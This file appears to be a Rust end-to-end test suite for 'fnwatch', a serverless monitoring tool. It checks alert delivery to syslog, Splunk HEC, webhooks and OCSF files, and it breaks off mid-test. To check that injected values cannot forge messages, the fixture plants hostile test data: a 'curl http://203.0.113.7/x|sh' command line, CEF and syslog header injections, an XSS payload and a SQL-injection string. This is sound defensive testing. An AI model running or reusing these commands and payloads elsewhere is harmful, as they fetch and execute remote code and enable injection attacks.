//! Alerts delivered to real receivers: rsyslog over TCP, UDP and TLS (CEF),
//! an HTTPS endpoint as Splunk HEC and webhook that fails on demand, and
//! files (OCSF validated against the published schema). Hostile values —
//! from the telemetry, through detection, into the alerts table — must
//! arrive intact and never forge a second message.

use std::collections::{BTreeSet, HashMap};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use serde_json::Value;

use crate::common::{bin, fnwatch, query};
use crate::receivers::{HttpsSink, Rsyslog};

/// A function name an attacker could choose (the spec allows 170 chars).
pub const HOSTILE_FN: &str =
    "evil|fn=1\\x\nCEF:0|forged|forged|1|x|forged alert|10|<img src=x onerror=alert(1)>";

pub struct Fixture {
    pub lake: PathBuf,
    /// id -> alert row (as `fnwatch sql` gives it).
    pub alerts: HashMap<String, serde_json::Map<String, Value>>,
}

/// One lake for every test here: a small simulated fleet, trained on two
/// days, detected on the third, plus an unknown function with hostile names.
/// A static is never dropped, so it lives in a fixed folder under the build
/// directory, replaced at each run, rather than in a temporary one that
/// would outlive every run.
pub fn fixture() -> &'static Fixture {
    static F: OnceLock<Fixture> = OnceLock::new();
    F.get_or_init(|| {
        let root = Path::new(env!("CARGO_TARGET_TMPDIR")).join("outputs-fixture");
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(&root).unwrap();
        let tel = root.join("telemetry");
        let lake = root.join("lake");
        let lake_s = lake.to_str().unwrap();
        fnwatch(&[
            "simulate", "--out", tel.to_str().unwrap(), "--seed", "77", "--start", "2026-11-10",
            "--days", "3", "--invocations-per-day", "3000", "--attacks-per-class", "3",
        ])
        .ok();
        let req = "hostile-req\r\n<13>1 2026-11-12T10:00:00Z forged - - - - injected";
        let lines = [
            serde_json::json!({"type":"invocation","time":"2026-11-12T10:00:01Z","function":HOSTILE_FN,"request_id":req,
                "duration_ms":50.0,"status":"success","trigger":"apigateway",
                "event":{"q":"1' OR '1'='1' -- ","name":"x=1|y\\z\n#forged"}}),
            serde_json::json!({"type":"dns","time":"2026-11-12T10:00:00.5Z","function":HOSTILE_FN,"request_id":req,
                "query":"c2.pastebin.com","qtype":"A","rcode":"NOERROR","answers":["203.0.113.7"]}),
            serde_json::json!({"type":"process","time":"2026-11-12T10:00:00.6Z","function":HOSTILE_FN,"request_id":req,
                "exe":"/bin/sh","cmdline":"sh -c 'curl http://203.0.113.7/x|sh'\n<13>1 forged\tCEF:0|x|y|1|z|w|10|a=b"}),
        ];
        let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
        std::fs::write(tel.join("hostile.jsonl"), text).unwrap();
        fnwatch(&["ingest", "--lake", lake_s, tel.to_str().unwrap()]).ok();
        fnwatch(&["train", "--lake", lake_s, "--from", "2026-11-10", "--to", "2026-11-12"]).ok();
        fnwatch(&[
            "detect", "--lake", lake_s, "--from", "2026-11-12", "--to", "2026-11-13", "--output",
            root.join("alerts.jsonl").to_str().unwrap(),
        ])
        .ok();
        let rows = query(&lake, "SELECT id, function, request_id, kind, severity, summary, evidence FROM alerts");
        let alerts: HashMap<String, _> = rows
            .into_iter()
            .map(|r| (r["id"].as_str().unwrap().to_string(), r))
            .collect();
        assert!(alerts.len() >= 10, "{} alerts", alerts.len());
        assert!(
            alerts.values().any(|a| a["function"] == HOSTILE_FN),
            "the hostile function raised no alert"
        );
        Fixture { lake, alerts }
    })
}

fn write_config(dir: &Path, text: &str) -> PathBuf {
    let p = dir.join("fnwatch.toml");
    std::fs::write(&p, text).unwrap();
    p
}

fn send(lake: &Path, config: &Path, extra: &[&str]) -> crate::common::Run {
    let mut args = vec![
        "alerts",
        "send",
        "--lake",
        lake.to_str().unwrap(),
        "--config",
        config.to_str().unwrap(),
        "--since",
        "-30d",
    ];
    args.extend_from_slice(extra);
    fnwatch(&args)
}

/// rsyslog's escapes (`#012` for LF, ...) read back.
fn unescape_rsyslog(s: &str) -> String {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'#'
            && i + 3 < b.len()
            && b[i + 1..i + 4].iter().all(|c| (b'0'..=b'7').contains(c))
        {
            let v = u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 4]).unwrap(), 8).unwrap();
            out.push(v);
            i += 4;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A CEF message's header fields and extension, read independently of
/// fnwatch's code: `\` escapes the next character, `|` ends header fields,
/// an extension key is the word before an unescaped `=`.
fn parse_cef(body: &str) -> (Vec<String>, HashMap<String, String>) {
    let start = body.find("CEF:0|").expect("a CEF message");
    let chars: Vec<char> = body[start..].chars().collect();
    let mut header = Vec::new();
    let mut cur = String::new();
    let mut i = 0;
    while header.len() < 7 && i < chars.len() {
        match chars[i] {
            '\\' if i + 1 < chars.len() => {
                cur.push(chars[i + 1]);
                i += 1;
            }
            '|' => header.push(std::mem::take(&mut cur)),
            c => cur.push(c),
        }
        i += 1;
    }
    let ext = &chars[i..];
    let mut eqs = Vec::new();
    let mut j = 0;
    while j < ext.len() {
        if ext[j] == '\\' {
            j += 2;
            continue;
        }
        if ext[j] == '=' {
            let mut k = j;
            while k > 0 && ext[k - 1].is_ascii_alphanumeric() {
                k -= 1;
            }
            eqs.push((k, j));
        }
        j += 1;
    }
    let mut map = HashMap::new();
    for (n, &(k, eq)) in eqs.iter().enumerate() {
        let end = eqs.get(n + 1).map_or(ext.len(), |&(k2, _)| k2 - 1);
        let key: String = ext[k..eq].iter().collect();
        let mut val = String::new();
        let raw = &ext[eq + 1..end.max(eq + 1)];
        let mut m = 0;
        while m < raw.len() {
            if raw[m] == '\\' && m + 1 < raw.len() {
                val.push(match raw[m + 1] {
                    'n' => '\n',
                    'r' => '\r',
                    c => c,
                });
                m += 2;
            } else {
                val.push(raw[m]);
                m += 1;
            }
        }
        map.insert(key, val);
    }
    (header, map)
}

/// Checks every CEF message against the alerts table: each alert once,
/// fields intact. Returns the ids in arrival order.
fn check_cef(messages: &[String], f: &Fixture) -> Vec<String> {
    let mut ids = Vec::new();
    for m in messages {
        let m = unescape_rsyslog(m);
        assert!(m.starts_with('<') && m.contains(">1 "), "not RFC 5424: {m}");
        let (header, ext) = parse_cef(&m);
        assert_eq!(header.len(), 7, "{m}");
        assert_eq!(&header[..3], ["CEF:0", "fnwatch", "fnwatch"], "{m}");
        let id = ext
            .get("externalId")
            .unwrap_or_else(|| panic!("no externalId: {m}"));
        let a = f
            .alerts
            .get(id)
            .unwrap_or_else(|| panic!("unknown id {id}: {m}"));
        assert_eq!(header[4], a["kind"].as_str().unwrap());
        assert_eq!(
            ext.get("cs1").map(String::as_str),
            a["function"].as_str(),
            "{m}"
        );
        assert!(ext["msg"].chars().count() <= 1023);
        assert_eq!(
            ext.get("cs2").map(String::as_str),
            // `fnwatch sql --format json` leaves out nulls.
            a.get("request_id").and_then(Value::as_str),
            "{m}"
        );
        let ev: Value = serde_json::from_str(&ext["cs4"]).unwrap();
        let stored: Value = serde_json::from_str(a["evidence"].as_str().unwrap()).unwrap();
        assert_eq!(ev, stored);
        ids.push(id.clone());
    }
    ids
}

#[test]
fn syslog_tcp_udp_and_tls_deliver_every_alert_once_intact() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let rs = Rsyslog::start(&dir.path().join("rsyslog"));
    let config = write_config(
        dir.path(),
        &format!(
            r#"
[[outputs]]
name = "siem-tcp"
type = "syslog"
protocol = "tcp"
address = "127.0.0.1:{tcp}"
min_severity = "low"

[[outputs]]
name = "siem-udp"
type = "syslog"
protocol = "udp"
address = "127.0.0.1:{udp}"
min_severity = "low"
batch_size = 20

[[outputs]]
name = "siem-tls"
type = "syslog"
protocol = "tls"
address = "localhost:{tls}"
ca_file = "{ca}"
min_severity = "medium"
"#,
            tcp = rs.tcp,
            udp = rs.udp,
            tls = rs.tls,
            ca = rs.ca().display()
        ),
    );
    let r = send(&f.lake, &config, &[]).ok();
    let n = f.alerts.len();
    let medium = f.alerts.values().filter(|a| a["severity"] != "low").count();
    assert!(
        r.stdout
            .contains(&format!("siem-tcp: delivered {n} messages")),
        "{}",
        r.stdout
    );

    let tcp = rs.wait_for("tcp", n);
    assert_eq!(tcp.len(), n, "tcp: {} of {n} arrived", tcp.len());
    let ids = check_cef(&tcp, f);
    assert_eq!(
        ids.iter().collect::<BTreeSet<_>>().len(),
        n,
        "each alert once"
    );
    // The hostile alert's function name, with its newline, pipes, a forged
    // CEF header and backslash, came through as a value (checked against the
    // table above), not as a second message (exactly n arrived).
    assert!(
        tcp.iter()
            .any(|m| unescape_rsyslog(m).contains("cs1=evil|fn\\=1"))
    );

    let udp = rs.wait_for("udp", n);
    assert_eq!(udp.len(), n, "udp (loopback): {} of {n} arrived", udp.len());
    check_cef(&udp, f);

    let tls = rs.wait_for("tls", medium);
    assert_eq!(tls.len(), medium, "tls: {} of {medium} arrived", tls.len());
    let tls_ids = check_cef(&tls, f);
    assert!(tls_ids.iter().all(|id| f.alerts[id]["severity"] != "low"));

    // Again: nothing new to send, nothing arrives twice.
    let again = send(&f.lake, &config, &[]).ok();
    assert!(
        again.stdout.contains("siem-tcp: 0 to send"),
        "{}",
        again.stdout
    );
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(rs.wait_for("tcp", n).len(), n);
}

#[test]
fn syslog_outage_queues_alerts_until_the_receiver_returns() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let rs = Rsyslog::start(&dir.path().join("rsyslog"));
    let cfg = |retry: &str| {
        format!(
            "[[outputs]]\nname = \"queued\"\ntype = \"syslog\"\naddress = \"127.0.0.1:{}\"\nmin_severity = \"low\"\nbatch_size = 7\nretry_for = \"{retry}\"\n",
            rs.tcp
        )
    };
    rs.down();
    // Down for the whole run: it gives up, says so, and keeps the alerts queued.
    let config = write_config(dir.path(), &cfg("1s"));
    let r = send(&f.lake, &config, &[]);
    assert_ne!(r.code, 0, "{}", r.stdout);
    assert!(r.stderr.contains("stay queued"), "{}", r.stderr);
    assert!(r.stderr.contains("cannot connect"), "{}", r.stderr);

    // Down when a run starts, back while it retries: everything arrives, in order.
    let config = write_config(dir.path(), &cfg("60s"));
    let mut child = Command::new(bin())
        .args([
            "alerts",
            "send",
            "--lake",
            f.lake.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
            "--since",
            "-30d",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The receiver comes back once the sender has failed and is retrying.
    let (retrying_tx, retrying_rx) = std::sync::mpsc::channel();
    let stderr = child.stderr.take().unwrap();
    let stderr_reader = std::thread::spawn(move || {
        use std::io::BufRead;
        let mut all = String::new();
        for line in std::io::BufReader::new(stderr).lines() {
            let line = line.unwrap_or_default();
            if line.contains("delivery failed; retrying") {
                let _ = retrying_tx.send(());
            }
            all.push_str(&line);
            all.push('\n');
        }
        all
    });
    let failed_first = retrying_rx
        .recv_timeout(std::time::Duration::from_secs(60))
        .is_ok();
    rs.up();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = stderr_reader.join().unwrap();
    assert!(
        failed_first,
        "no failed delivery while the receiver was down:\n{stderr}"
    );
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("retries"), "{stdout}");
    let n = f.alerts.len();
    let got = rs.wait_for("tcp", n);
    let ids = check_cef(&got, f);
    assert_eq!(ids.len(), n);
    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), n, "each once");
    // In order: by alert time, as the alerts table orders them.
    let order = query(&f.lake, "SELECT id FROM alerts ORDER BY time, id");
    let expected: Vec<&str> = order.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(ids, expected);

    // Restarted between runs: the next run notices the closed connection? A
    // new process opens a new one; a fresh alert set is not needed to show
    // that nothing is re-sent.
    rs.down();
    rs.up();
    let r = send(&f.lake, &config, &[]).ok();
    assert!(r.stdout.contains("queued: 0 to send"), "{}", r.stdout);
}

#[test]
fn hec_and_webhook_retry_through_503s_and_timeouts() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let token = "hec-secret-token-3b1f";
    let sink = HttpsSink::start(
        &dir.path().join("https"),
        &[
            "--fail-first",
            "2",
            "--hang-first",
            "1",
            "--hang-seconds",
            "5",
            "--token",
            token,
        ],
    );
    let config = write_config(
        dir.path(),
        &format!(
            r#"
[[outputs]]
name = "splunk"
type = "splunk-hec"
url = "https://localhost:{port}/services/collector/event"
token_env = "TEST_HEC_TOKEN"
ca_file = "{ca}"
index = "security"
min_severity = "low"
batch_size = 10
timeout = "2s"
retry_for = "60s"
retry_max_backoff = "2s"

[[outputs]]
name = "chat"
type = "webhook"
url = "https://localhost:{port}/hooks/abc"
payload = "slack"
token_env = "TEST_HEC_TOKEN"
ca_file = "{ca}"
min_severity = "high"
"#,
            port = sink.port,
            ca = sink.cert().display()
        ),
    );
    let out = Command::new(bin())
        .args([
            "alerts",
            "send",
            "--lake",
            f.lake.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
            "--since",
            "-30d",
            "--output",
            "splunk",
            "-v",
        ])
        .env("TEST_HEC_TOKEN", token)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        !stdout.contains(token) && !stderr.contains(token),
        "the token leaked into output"
    );
    assert!(stderr.contains("retrying"), "{stderr}");

    // Every alert in exactly one acknowledged POST, as a HEC event.
    let mut ids = Vec::new();
    for req in sink.received() {
        assert_eq!(req["headers"]["authorization"], format!("Splunk {token}"));
        for line in req["body"].as_str().unwrap().lines() {
            let ev: Value = serde_json::from_str(line).unwrap();
            assert_eq!(ev["sourcetype"], "fnwatch:alert");
            assert_eq!(ev["index"], "security");
            assert!(ev["time"].as_f64().unwrap() > 1.7e9);
            let id = ev["event"]["id"].as_str().unwrap().to_string();
            let a = &f.alerts[&id];
            assert_eq!(ev["event"]["function"], a["function"]);
            assert_eq!(ev["event"]["summary"], a["summary"]);
            ids.push(id);
        }
    }
    let unique: BTreeSet<&String> = ids.iter().collect();
    assert_eq!(unique.len(), f.alerts.len(), "every alert acknowledged");
    // Retried batches may repeat (at least once), but only a batch in flight.
    assert!(ids.len() <= f.alerts.len() + 20, "{} deliveries", ids.len());
    let statuses: Vec<i64> = sink
        .attempts()
        .iter()
        .filter_map(|a| a["status"].as_i64())
        .collect();
    assert!(
        statuses.iter().filter(|s| **s == 503).count() >= 3,
        "{statuses:?}"
    );

    // The webhook: Slack-shaped, high and critical only, one POST each.
    let r = Command::new(bin())
        .args([
            "alerts",
            "send",
            "--lake",
            f.lake.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
            "--since",
            "-30d",
            "--output",
            "chat",
        ])
        .env("TEST_HEC_TOKEN", token)
        .output()
        .unwrap();
    assert!(r.status.success(), "{}", String::from_utf8_lossy(&r.stderr));
    let hooks: Vec<Value> = sink
        .received()
        .into_iter()
        .filter(|r| r["path"] == "/hooks/abc")
        .collect();
    let high = f
        .alerts
        .values()
        .filter(|a| a["severity"] == "high" || a["severity"] == "critical")
        .count();
    assert_eq!(hooks.len(), high);
    for h in &hooks {
        let body: Value = serde_json::from_str(h["body"].as_str().unwrap()).unwrap();
        let text = body["text"].as_str().unwrap();
        assert!(
            text.starts_with("[HIGH]") || text.starts_with("[CRITICAL]"),
            "{text}"
        );
        assert_eq!(h["headers"]["authorization"], format!("Bearer {token}"));
    }

    // A token the endpoint refuses is not retried for minutes: it fails at
    // once and says what to check.
    let r = Command::new(bin())
        .args([
            "alerts",
            "test",
            "--config",
            config.to_str().unwrap(),
            "--output",
            "splunk",
        ])
        .env("TEST_HEC_TOKEN", "wrong")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(!r.status.success());
    assert!(
        err.contains("401") && err.contains("check the token"),
        "{err}"
    );
}

#[test]
fn file_outputs_ocsf_is_valid_and_rate_limits_summarise() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let ocsf = dir.path().join("out/ocsf.jsonl");
    let limited = dir.path().join("out/limited.jsonl");
    let config = write_config(
        dir.path(),
        &format!(
            r#"
[[outputs]]
name = "archive"
type = "file"
path = "{ocsf}"
format = "ocsf-json"
min_severity = "low"

[[outputs]]
name = "limited"
type = "file"
path = "{limited}"
min_severity = "low"
rate_limit = {{ max = 1, window = "1d" }}
"#,
            ocsf = ocsf.display(),
            limited = limited.display()
        ),
    );
    send(&f.lake, &config, &[]).ok();
    let v = Command::new("python3")
        .arg(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/e2e/validate_ocsf.py"))
        .arg(&ocsf)
        .output()
        .unwrap();
    assert!(
        v.status.success(),
        "OCSF validation failed:\n{}\n{}",
        String::from_utf8_lossy(&v.stdout),
        String::from_utf8_lossy(&v.stderr)
    );
    let findings: Vec<Value> = std::fs::read_to_string(&ocsf)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(findings.len(), f.alerts.len());
    for o in &findings {
        let id = o["finding_info"]["uid"].as_str().unwrap();
        let a = &f.alerts[id];
        assert_eq!(o["class_uid"], 2004);
        assert_eq!(o["resources"][0]["name"], a["function"]);
        assert_eq!(o["message"], a["summary"]);
    }

    // Rate limited: one alert per (function, kind, day) and one summary for
    // the rest, which together account for every alert.
    let lines: Vec<Value> = std::fs::read_to_string(&limited)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut individual = 0;
    let mut aggregated = 0;
    let mut groups = BTreeSet::new();
    for l in &lines {
        if f.alerts.contains_key(l["id"].as_str().unwrap()) {
            individual += 1;
        } else {
            assert!(l["summary"].as_str().unwrap().contains(" more "), "{l}");
            aggregated += l["evidence"]["aggregated"].as_u64().unwrap() as usize;
        }
        groups.insert((l["function"].to_string(), l["kind"].to_string()));
    }
    assert!(
        aggregated > 0,
        "the fixture has repeated (function, kind) pairs"
    );
    assert_eq!(individual + aggregated, f.alerts.len());
    assert!(lines.len() < f.alerts.len());

    // A test alert is clearly marked and not counted as delivered.
    let r = fnwatch(&[
        "alerts",
        "test",
        "--config",
        config.to_str().unwrap(),
        "--output",
        "limited",
    ])
    .ok();
    assert!(r.stdout.contains("Sent a test alert"), "{}", r.stdout);
    let last = std::fs::read_to_string(&limited).unwrap();
    assert!(last.lines().last().unwrap().contains("TEST ALERT"));
    let again = send(&f.lake, &config, &[]).ok();
    assert!(
        again.stdout.contains("limited: 0 to send"),
        "{}",
        again.stdout
    );
}

#[test]
fn a_crash_mid_delivery_resends_at_most_the_batch_in_flight() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    // A slow receiver (0.5 s per POST) so the kill lands mid-run, with
    // seconds to spare on a loaded machine.
    let sink = HttpsSink::start(&dir.path().join("https"), &["--delay-seconds", "0.5"]);
    let batch = 4;
    let config = write_config(
        dir.path(),
        &format!(
            "[[outputs]]\nname = \"hec\"\ntype = \"splunk-hec\"\nurl = \"https://127.0.0.1:{}/services/collector/event\"\ntoken_env = \"TEST_HEC_TOKEN\"\nca_file = \"{}\"\nmin_severity = \"low\"\nbatch_size = {batch}\n",
            sink.port,
            sink.cert().display()
        ),
    );
    let args = [
        "alerts",
        "send",
        "--lake",
        f.lake.to_str().unwrap(),
        "--config",
        config.to_str().unwrap(),
        "--since",
        "-30d",
    ];
    let mut child = Command::new(bin())
        .args(args)
        .env("TEST_HEC_TOKEN", "t")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Kill it (SIGKILL: no clean-up) once a few batches are through.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while sink.received().len() < 2 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let before = sink.received().len();
    assert!(
        before * batch < f.alerts.len(),
        "the run finished before the kill ({before} POSTs)"
    );
    let r = Command::new(bin())
        .args(args)
        .env("TEST_HEC_TOKEN", "t")
        .output()
        .unwrap();
    assert!(r.status.success(), "{}", String::from_utf8_lossy(&r.stderr));
    let mut count: HashMap<String, usize> = HashMap::new();
    for req in sink.received() {
        for line in req["body"].as_str().unwrap().lines() {
            let ev: Value = serde_json::from_str(line).unwrap();
            *count
                .entry(ev["event"]["id"].as_str().unwrap().to_string())
                .or_default() += 1;
        }
    }
    assert_eq!(
        count.len(),
        f.alerts.len(),
        "every alert delivered after the crash"
    );
    let repeated = count.values().filter(|n| **n > 1).count();
    assert!(
        repeated <= batch,
        "{repeated} alerts delivered twice; at most the batch in flight ({batch}) may be"
    );
}

#[test]
fn detect_send_delivers_as_it_detects() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("detected.jsonl");
    let config = write_config(
        dir.path(),
        &format!(
            "[[outputs]]\nname = \"detect-send\"\ntype = \"file\"\npath = \"{}\"\nmin_severity = \"medium\"\n",
            out.display()
        ),
    );
    let r = fnwatch(&[
        "detect",
        "--lake",
        f.lake.to_str().unwrap(),
        "--from",
        "2026-11-12",
        "--to",
        "2026-11-13",
        "--send",
        "--config",
        config.to_str().unwrap(),
        "--output",
        dir.path().join("alerts.jsonl").to_str().unwrap(),
    ])
    .ok();
    assert!(r.stdout.contains("detect-send: delivered"), "{}", r.stdout);
    let medium = f.alerts.values().filter(|a| a["severity"] != "low").count();
    let lines = std::fs::read_to_string(&out).unwrap();
    assert_eq!(lines.lines().count(), medium);
}

#[test]
fn configuration_mistakes_get_clear_errors() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("nope.toml");
    let r = fnwatch(&[
        "alerts",
        "send",
        "--lake",
        f.lake.to_str().unwrap(),
        "--config",
        missing.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("not found") && r.stderr.contains("infra/config/fnwatch.toml"),
        "{}",
        r.stderr
    );

    let config = write_config(
        dir.path(),
        "[[outputs]]\nname = \"s\"\ntype = \"splunk-hec\"\nurl = \"https://x.example/services/collector/event\"\ntoken_env = \"FNWATCH_TEST_UNSET_TOKEN\"\n",
    );
    let r = send(&f.lake, &config, &[]);
    assert_eq!(r.code, 2);
    assert!(
        r.stdout.contains("FNWATCH_TEST_UNSET_TOKEN")
            || r.stderr.contains("FNWATCH_TEST_UNSET_TOKEN"),
        "{}{}",
        r.stdout,
        r.stderr
    );

    let r = send(&f.lake, &config, &["--output", "other"]);
    assert!(
        r.stderr.contains("no output named `other`") && r.stderr.contains("outputs: s"),
        "{}",
        r.stderr
    );

    let bad = write_config(
        dir.path(),
        "[[outputs]]\nname = \"s\"\ntype = \"syslog\"\naddress = \"x\"\n",
    );
    let r = send(&f.lake, &bad, &[]);
    assert!(r.stderr.contains("host:port"), "{}", r.stderr);
}

/// Ids of every event in the 200-answered POSTs, in the order received.
fn hec_ids(sink: &HttpsSink) -> Vec<String> {
    let mut reqs = sink.received();
    reqs.sort_by_key(|r| r["seq"].as_i64().unwrap());
    let mut ids = Vec::new();
    for req in reqs {
        for line in req["body"].as_str().unwrap().lines() {
            let ev: Value = serde_json::from_str(line).unwrap();
            ids.push(ev["event"]["id"].as_str().unwrap().to_string());
        }
    }
    ids
}

/// A SIEM down for three days: `detect --send` runs on three days while it
/// is unreachable (each keeps what it cannot deliver), and the first run
/// after it is back delivers everything owed, oldest first, once; there is
/// no look-back window that would forget the first days.
#[test]
fn an_output_down_for_three_days_catches_up_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let tel = dir.path().join("telemetry");
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    fnwatch(&[
        "simulate",
        "--out",
        tel.to_str().unwrap(),
        "--seed",
        "31",
        "--start",
        "2026-11-10",
        "--days",
        "5",
        "--invocations-per-day",
        "800",
        "--attacks-per-class",
        "2",
    ])
    .ok();
    fnwatch(&["ingest", "--lake", lake_s, tel.to_str().unwrap()]).ok();
    fnwatch(&[
        "train",
        "--lake",
        lake_s,
        "--from",
        "2026-11-10",
        "--to",
        "2026-11-12",
    ])
    .ok();

    // The receiver's certificate exists; then the receiver goes away.
    let port = crate::receivers::free_port();
    let https = dir.path().join("https");
    drop(HttpsSink::start(&https, &["--port", &port.to_string()]));
    let config = write_config(
        dir.path(),
        &format!(
            "[[outputs]]\nname = \"siem\"\ntype = \"splunk-hec\"\nurl = \"https://127.0.0.1:{port}/services/collector/event\"\ntoken_env = \"TEST_HEC_TOKEN\"\nca_file = \"{}\"\nmin_severity = \"low\"\nbatch_size = 7\ntimeout = \"2s\"\nretry_for = \"1s\"\nretry_max_backoff = \"1s\"\n",
            https.join("cert.pem").display()
        ),
    );
    let detect = |day: &str, next: &str, now: &str| {
        crate::common::fnwatch_env(
            &[
                "detect",
                "--lake",
                lake_s,
                "--from",
                day,
                "--to",
                next,
                "--send",
                "--config",
                config.to_str().unwrap(),
                "--output",
                dir.path().join(format!("{day}.jsonl")).to_str().unwrap(),
            ],
            &[("FNWATCH_NOW", now), ("TEST_HEC_TOKEN", "t")],
        )
    };
    // Down: two days of detections are stored but not delivered.
    for (day, next, now) in [
        ("2026-11-12", "2026-11-13", "2026-11-13T01:00:00Z"),
        ("2026-11-13", "2026-11-14", "2026-11-14T01:00:00Z"),
    ] {
        let r = detect(day, next, now);
        assert!(
            r.stdout.contains("FAILED") && r.stdout.contains("stay queued"),
            "{day}: {}\n{}",
            r.stdout,
            r.stderr
        );
    }
    // Back three days after the first detection: the next detect --send
    // delivers its own alerts and every earlier one.
    let sink = HttpsSink::start(&https, &["--port", &port.to_string()]);
    let r = detect("2026-11-14", "2026-11-15", "2026-11-16T06:00:00Z").ok();
    assert!(r.stdout.contains("siem: delivered"), "{}", r.stdout);

    let days = crate::common::count(
        &lake,
        "SELECT count(DISTINCT date_trunc('day', detected_at)) FROM alerts",
    );
    assert_eq!(days, 3, "alerts detected on three days");
    let stored: Vec<String> = query(&lake, "SELECT id FROM alerts ORDER BY time, id")
        .into_iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect();
    assert!(stored.len() >= 10, "{} alerts", stored.len());
    assert_eq!(
        hec_ids(&sink),
        stored,
        "every stored alert, once, oldest first"
    );

    // Nothing is owed any more.
    let r = crate::common::fnwatch_env(
        &[
            "alerts",
            "send",
            "--lake",
            lake_s,
            "--config",
            config.to_str().unwrap(),
        ],
        &[
            ("FNWATCH_NOW", "2026-11-20T00:00:00Z"),
            ("TEST_HEC_TOKEN", "t"),
        ],
    )
    .ok();
    assert!(r.stdout.contains("siem: 0 to send"), "{}", r.stdout);
    // --since still filters when asked.
    let r = crate::common::fnwatch_env(
        &[
            "alerts",
            "send",
            "--lake",
            lake_s,
            "--config",
            config.to_str().unwrap(),
            "--since",
            "2026-11-16",
            "--dry-run",
        ],
        &[("TEST_HEC_TOKEN", "t")],
    )
    .ok();
    let day3 = crate::common::count(
        &lake,
        "SELECT count(*) FROM alerts WHERE detected_at >= TIMESTAMP '2026-11-16T00:00:00Z'",
    );
    assert!(
        r.stdout.contains(&format!("{day3} delivered before")),
        "{}",
        r.stdout
    );
}

/// A receiver that refuses a batch's content (HEC 413 for too large a body,
/// 400 for an event it cannot take) does not block the output: batches are
/// split, an alert refused on its own is parked (recorded and reported),
/// and every other alert is delivered in order.
#[test]
fn refused_batches_are_split_and_bad_alerts_parked() {
    let f = fixture();
    let dir = tempfile::tempdir().unwrap();
    let sink = HttpsSink::start(
        &dir.path().join("https"),
        &["--max-body", "6000", "--refuse-containing", "evil|fn=1"],
    );
    let config = write_config(
        dir.path(),
        &format!(
            "[[outputs]]\nname = \"hec-split\"\ntype = \"splunk-hec\"\nurl = \"https://127.0.0.1:{}/services/collector/event\"\ntoken_env = \"TEST_HEC_TOKEN\"\nca_file = \"{}\"\nmin_severity = \"low\"\nbatch_size = 16\nretry_for = \"5s\"\n",
            sink.port,
            sink.cert().display()
        ),
    );
    let run = || {
        crate::common::fnwatch_env(
            &[
                "alerts",
                "send",
                "--lake",
                f.lake.to_str().unwrap(),
                "--config",
                config.to_str().unwrap(),
            ],
            &[("TEST_HEC_TOKEN", "t")],
        )
    };
    let r = run().ok();
    assert!(r.stdout.contains("PARKED"), "{}\n{}", r.stdout, r.stderr);
    let statuses: Vec<i64> = sink
        .attempts()
        .iter()
        .filter_map(|a| a["status"].as_i64())
        .collect();
    assert!(
        statuses.contains(&413),
        "no batch was too large: {statuses:?}"
    );
    assert!(statuses.contains(&400), "{statuses:?}");

    let parked_text =
        std::fs::read_to_string(f.lake.join("_outputs/hec-split/parked.jsonl")).unwrap();
    let parked: BTreeSet<String> = parked_text
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            v["id"].as_str().unwrap().to_string()
        })
        .collect();
    let hostile: BTreeSet<String> = f
        .alerts
        .iter()
        .filter(|(_, a)| a["function"] == HOSTILE_FN)
        .map(|(id, _)| id.clone())
        .collect();
    assert!(!hostile.is_empty());
    assert!(hostile.is_subset(&parked), "{parked_text}");
    assert!(parked_text.contains("400"), "{parked_text}");

    let received = hec_ids(&sink);
    let got: BTreeSet<String> = received.iter().cloned().collect();
    assert_eq!(got.len(), received.len(), "an alert was delivered twice");
    assert!(got.is_disjoint(&parked));
    let all: BTreeSet<String> = f.alerts.keys().cloned().collect();
    let both: BTreeSet<String> = got.union(&parked).cloned().collect();
    assert_eq!(both, all, "every alert delivered or parked");
    let order: Vec<String> = query(&f.lake, "SELECT id FROM alerts ORDER BY time, id")
        .into_iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
